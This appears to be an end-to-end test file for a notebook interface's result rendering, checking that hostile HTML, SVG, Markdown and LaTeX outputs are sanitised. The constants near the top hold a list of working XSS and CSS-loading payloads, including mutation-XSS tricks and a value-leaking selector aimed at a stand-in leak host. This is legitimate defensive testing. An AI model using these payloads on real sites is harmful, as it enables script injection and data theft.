// Results by their format, those that mean harm, and very large ones.

import { assert, equal } from "../e2e/assert.js";
import { cell, open, output, run } from "./steps.js";

/** Shows data as the formats of one result. */
export const display = (data) => `from IPython.display import display\nimport json\ndisplay(json.loads(${JSON.stringify(JSON.stringify(data))}), raw=True)`;

/** Shows an image of 20 MB, which is noise and cannot be compressed. */
const NOISE = `import os, struct, zlib
from IPython.display import Image
def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
rows = b"".join(b"\\0" + os.urandom(2600 * 3) for _ in range(2600))
head = struct.pack(">IIBBBBB", 2600, 2600, 8, 2, 0, 0, 0)
Image(b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows, 0)) + chunk(b"IEND", b""))`;

/** The content of the frame of an HTML result. */
const frame = (page, id) => cell(page, id).frameLocator("iframe");

/** What tells on itself when any of it runs or loads something: addresses that nobody serves, and a mark on the page. */
const MARK = "document.documentElement.dataset.hacked='yes';parent.document.documentElement.dataset.hacked='yes'";
export const LEAK = "http://leak.localhost:9/";
export const HOSTILE = `
<script>${MARK}</script><script src="${LEAK}script.js"></script>
<img src=x onerror="${MARK}"><img src="${LEAK}image.png"><img srcset="${LEAK}set.png 1x">
<svg onload="${MARK}"><script>${MARK}</script><image href="${LEAK}svg.png"/><animate onbegin="${MARK}" attributeName="x"/><foreignObject><iframe srcdoc="<script>${MARK}</script>"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${MARK}&gt;"></table></mtext></math>
<a href="javascript:${MARK}" id="link">link</a><a href="JaVa&#x09;Script:${MARK}">link</a><a href="data:text/html,<script>${MARK}</script>">data</a>
<iframe src="javascript:${MARK}"></iframe><iframe src="${LEAK}frame"></iframe><object data="${LEAK}object"></object><embed src="${LEAK}embed">
<form action="${LEAK}form"><input name=a autofocus onfocus="${MARK}"><button>send</button></form>
<link rel=stylesheet href="${LEAK}sheet.css"><link rel=prefetch href="${LEAK}prefetch"><meta http-equiv=refresh content="0;url=${LEAK}refresh"><base href="${LEAK}base">
<style>@import url(${LEAK}import.css); @font-face{font-family:x;src:url(${LEAK}font)} * { background: url(${LEAK}style.png); --x: url(${LEAK}var.png); } p { list-style: var(--x); border-image: \\75rl(${LEAK}escape.png) 1; } input[value^=a] { background-image: image-set("${LEAK}set" 1x) }</style>
<p style="background:url(${LEAK}attribute.png);position:fixed;inset:0">fixed</p><table background="${LEAK}table.png"><tr><td>cell</td></tr></table>
<video src="${LEAK}video" poster="${LEAK}poster" autoplay onloadstart="${MARK}"></video><audio src="${LEAK}audio" autoplay></audio>
<details open ontoggle="${MARK}"><summary>s</summary></details><textarea></textarea><script>alert(1)</textarea></script>
</script><script>${MARK}</script>--><!--><script>${MARK}</script>`;

const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="20" onload="${MARK}">
<script>${MARK}</script><rect width="40" height="20" fill="red" onclick="${MARK}"/><image href="${LEAK}inner.png"/><use xlink:href="${LEAK}use.svg#a"/>
<style>@import url(${LEAK}svg.css); rect { fill: url(${LEAK}paint.svg#p) }</style><a href="javascript:${MARK}"><text>x</text></a></svg>`;

const HOSTILE_MARKDOWN = `# Title\n\n[link](javascript:${MARK}) ![image](${LEAK}markdown.png) <img src=x onerror="${MARK}"> <style>body{background:url(${LEAK}md.png)}</style>\n\n<script>${MARK}</script>\n\n[ok](https://example.com/)`;

const HOSTILE_LATEX = String.raw`\href{javascript:${MARK}}{x} \includegraphics{${LEAK}latex.png} \htmlData{a=b}{x}`;

/** Fails when anything of the hostile results ran or left. */
async function nothingHappened(page, seen) {
  // Whatever was to be loaded has been asked for by now: two frames after the last result was drawn.
  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
  equal(await page.evaluate(() => document.documentElement.dataset.hacked), undefined, "a mark on the page");
  equal(seen, [], "requests, dialogs and pages");
}

/** Watches for what hostile results might do. */
function watch(page, context) {
  const seen = [];
  page.on("request", (request) => request.url().includes("leak") && seen.push(request.url()));
  page.on("dialog", (dialog) => (seen.push(dialog.message()), dialog.dismiss()));
  context.on("page", (other) => seen.push(other.url()));
  page.on("framenavigated", (frame) => frame.url().includes("leak") && seen.push(frame.url()));
  return seen;
}

/**
 * Under a strict policy the browser reports the inline styles and handlers of markup while it is parsed into an inert document,
 * where they would do nothing: `policyNotices`.
 */
const hostile = (name, { policy, ...options }) => ({
  name,
  ...options,
  async run(ctx) {
    const { page, context } = ctx;
    const seen = watch(page, context);
    await open(ctx, { policy });
    equal(await run(page, "first", display({ "text/html": HOSTILE, "text/plain": "x" })), "ok");
    await frame(page, "first").getByText("cell", { exact: true }).waitFor();
    await nothingHappened(page, seen);
    // What is left of the links leads nowhere.
    const links = await frame(page, "first").locator("a[href]").count();
    equal(links, 0, "links that lead somewhere");
    equal(await frame(page, "first").locator("script, iframe, object, embed, form, input, link, base, video, audio, style").count(), 0, "elements");
    equal(await run(page, "second", display({ "image/svg+xml": HOSTILE_SVG, "text/plain": "x" })), "ok");
    await output(page, "second").locator("img").waitFor();
    if (!policy) {
      const svg = await output(page, "second").locator("img").evaluate(async ({ src }) => (await fetch(src)).text());
      assert(/<rect/.test(svg) && !/script|onload|onclick|javascript|leak/.test(svg.replace(/<style>[^]*<\/style>/, "")), svg);
    }
    await nothingHappened(page, seen);
    equal(await run(page, "first", display({ "text/markdown": HOSTILE_MARKDOWN, "text/plain": "x" })), "ok");
    await output(page, "first").getByRole("heading", { name: "Title" }).waitFor();
    equal(await output(page, "first").locator("a[href]").evaluateAll((all) => all.map((a) => [a.href, a.target, a.rel])), [
      ["https://example.com/", "_blank", "noopener noreferrer"],
    ]);
    await nothingHappened(page, seen);
    equal(await run(page, "second", display({ "text/latex": `$${HOSTILE_LATEX}$`, "application/javascript": MARK, "text/plain": HOSTILE })), "ok");
    await output(page, "second").locator(".rendered:not([aria-busy])").waitFor();
    equal(await run(page, "first", `raise ValueError(${JSON.stringify(HOSTILE)})`), "failed");
    await output(page, "first").locator(".failure").waitFor();
    await nothingHappened(page, seen);
  },
});

export const cases = [
  hostile("results: hostile markup runs nothing and sends nothing, on a page without a policy", { policy: false }),
  hostile("results: hostile markup runs nothing and sends nothing, under a strict policy", { policy: true, policyNotices: true }),
  {
    name: "results: text, images, JSON, LaTeX, Markdown and several at once",
    async run(ctx) {
      const { page } = ctx;
      await open(ctx);
      const pixel = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";
      equal(await run(page, "first", display({ "image/png": pixel, "text/plain": "a pixel" })), "ok");
      await output(page, "first").getByRole("img", { name: "a pixel" }).waitFor();
      equal(await output(page, "first").locator("img").evaluate((image) => image.decode().then(() => image.naturalWidth)), 1);

      equal(await run(page, "first", display({ "application/json": { list: [1, "two", null], deep: { a: true } }, "text/plain": "x" })), "ok");
      const tree = output(page, "first").locator(".tree");
      await tree.getByText("list:").click();
      await tree.getByText('"two"').waitFor();

      equal(await run(page, "first", String.raw`from IPython.display import Math, Markdown, display
display(Math(r"\frac{a}{b}"), Markdown("**bold** and a\n\n| table | two |\n|---|---|\n| 1 | 2 |"))
"last"`), "ok");
      await output(page, "first").locator("math mfrac").waitFor();
      await output(page, "first").getByRole("cell", { name: "1", exact: true }).waitFor();
      await output(page, "first").getByText("last", { exact: true }).waitFor();
      equal(await output(page, "first").locator(".result").count(), 3);
    },
  },
  {
    name: "results: an image of 20 MB is shown, no wider than its cell, and gives its memory back",
    // Asking for what has been given back is one.
    networkErrors: true,
    async run(ctx) {
      const { page } = ctx;
      await open(ctx);
      equal(await run(page, "first", NOISE), "ok");
      const image = output(page, "first").locator("img");
      equal(await image.evaluate((image) => image.decode().then(() => [image.naturalWidth, image.naturalHeight])), [2600, 2600]);
      const [shown, most] = await image.evaluate((image) => [image.offsetWidth, image.closest(".result").clientWidth]);
      assert(shown > 100 && shown <= most, `${shown} of ${most} px wide`);
      const address = await image.evaluate(({ src }) => src);
      await cell(page, "first").getByRole("button", { name: "Clear" }).click();
      const isThere = await page.evaluate((src) => {
        const image = new Image();
        image.src = src;
        return image.decode().then(() => true, () => false);
      }, address);
      equal(isThere, false, "the image after it was cleared");
    },
  },
  {
    name: "results: a DataFrame is a table in a frame, also one of 5,000 rows, and its styles survive",
    policyNotices: true,
    async run(ctx) {
      const { page } = ctx;
      await open(ctx);
      equal(await run(page, "first", "import pandas as pd\npd.set_option('display.max_rows', None)\npd.DataFrame({'a': range(5000), 'b': ['x'] * 5000})"), "ok");
      const last = frame(page, "first").getByRole("row", { name: "4999 4999 x" });
      await last.waitFor({ state: "attached" });
      equal(await frame(page, "first").getByRole("row").count(), 5001);
      const height = await cell(page, "first").locator("iframe").evaluate((iframe) => iframe.offsetHeight);
      assert(height > 100 && height <= 480, `${height} px high`);
      await last.scrollIntoViewIfNeeded();
      equal(await cell(page, "first").locator("iframe").getAttribute("sandbox"), "allow-same-origin allow-popups allow-popups-to-escape-sandbox");

      // A small one is no higher than it has to be, and follows the theme of the page.
      equal(await run(page, "second", "pd.DataFrame({'a': [1]})"), "ok");
      const small = frame(page, "second").getByRole("cell", { name: "1" });
      await small.waitFor();
      const low = await cell(page, "second").locator("iframe").evaluate((iframe) => iframe.offsetHeight);
      assert(low > 30 && low < 120, `${low} px high`);
      for (const [theme, colour] of [["dark", "rgb(239, 234, 223)"], ["light", "rgb(34, 31, 25)"]]) {
        await page.evaluate((theme) => (document.documentElement.dataset.theme = theme), theme);
        equal(await small.evaluate((td) => getComputedStyle(td).color), colour, theme);
      }

      const styled = "<style>#T_1 td.hot { background-color: #d73027; color: #f1f1f1 }</style><table id=T_1><tr><td class=hot style='font-weight: bold'>hot</td></tr></table>";
      equal(await run(page, "first", display({ "text/html": styled, "text/plain": "x" })), "ok");
      const hot = frame(page, "first").getByText("hot");
      equal(await hot.evaluate((td) => [getComputedStyle(td).backgroundColor, getComputedStyle(td).fontWeight]), ["rgb(215, 48, 39)", "700"]);
    },
  },
  {
    name: "results: charts are drawn from their data, with a table and the original image beside them",
    async run(ctx) {
      const { page } = ctx;
      await open(ctx);
      const plot = `import matplotlib.pyplot as plt
fig, axes = plt.subplots(1, 1)
plt.plot([1, 2, 3], [4, 1, 9], label="measured")
plt.plot([1, 2, 3], [1, 2, 3], label="expected")
plt.title("Growth"); plt.xlabel("Time (s)"); plt.ylabel("Size"); plt.legend()
plt.show()`;
      equal(await run(page, "first", plot), "ok");
      const drawing = output(page, "first").getByRole("img", { name: /^Line chart. Growth. Time \(s\) against Size. measured, expected/ });
      await drawing.waitFor();
      equal(await drawing.locator("path.line-path").count(), 2);
      await output(page, "first").getByText("Data", { exact: true }).click();
      await output(page, "first").getByRole("row", { name: "measured 3 9" }).waitFor();
      await output(page, "first").getByRole("button", { name: "Original image" }).click();
      await output(page, "first").locator("img.picture").waitFor();
      await drawing.waitFor({ state: "hidden" });

      const kinds = `plt.bar(["a", "b"], [3, -5]); plt.show()
plt.scatter([1, 2, 3], [3, 2, 1]); plt.show()
plt.pie([1, 2, 1], labels=["x", "y", "z"]); plt.show()
plt.boxplot([[85, 90, 78, 92, 88], [95, 89, 76, 91, 84, 87]], tick_labels=['A', 'B'], patch_artist=True); plt.show()
fig, (left, right) = plt.subplots(1, 2); left.plot([1, 2]); right.bar(["p", "q"], [1, 2]); plt.show()
plt.plot([1, 10, 100], [1, 10, 100]); plt.xscale("log"); plt.show()
plt.imshow([[1, 2], [3, 4]]); plt.show()`;
      equal(await run(page, "second", kinds), "ok");
      await output(page, "second").locator(".rendered:not([aria-busy])").nth(6).waitFor();
      const drawn = await output(page, "second").locator(".rendered").evaluateAll((all) => all.map((one) => one.querySelectorAll("svg.chart").length));
      equal(drawn, [1, 1, 1, 1, 2, 1, 0]);
      equal(await output(page, "second").locator(".bar-mark").count(), 4);
      equal(await output(page, "second").locator(".slice").count(), 3);
      equal(await output(page, "second").locator(".box").count(), 2);
      // What is no chart that is known is the image.
      await output(page, "second").locator(".rendered").nth(6).locator("img.picture").waitFor();
    },
  },
];
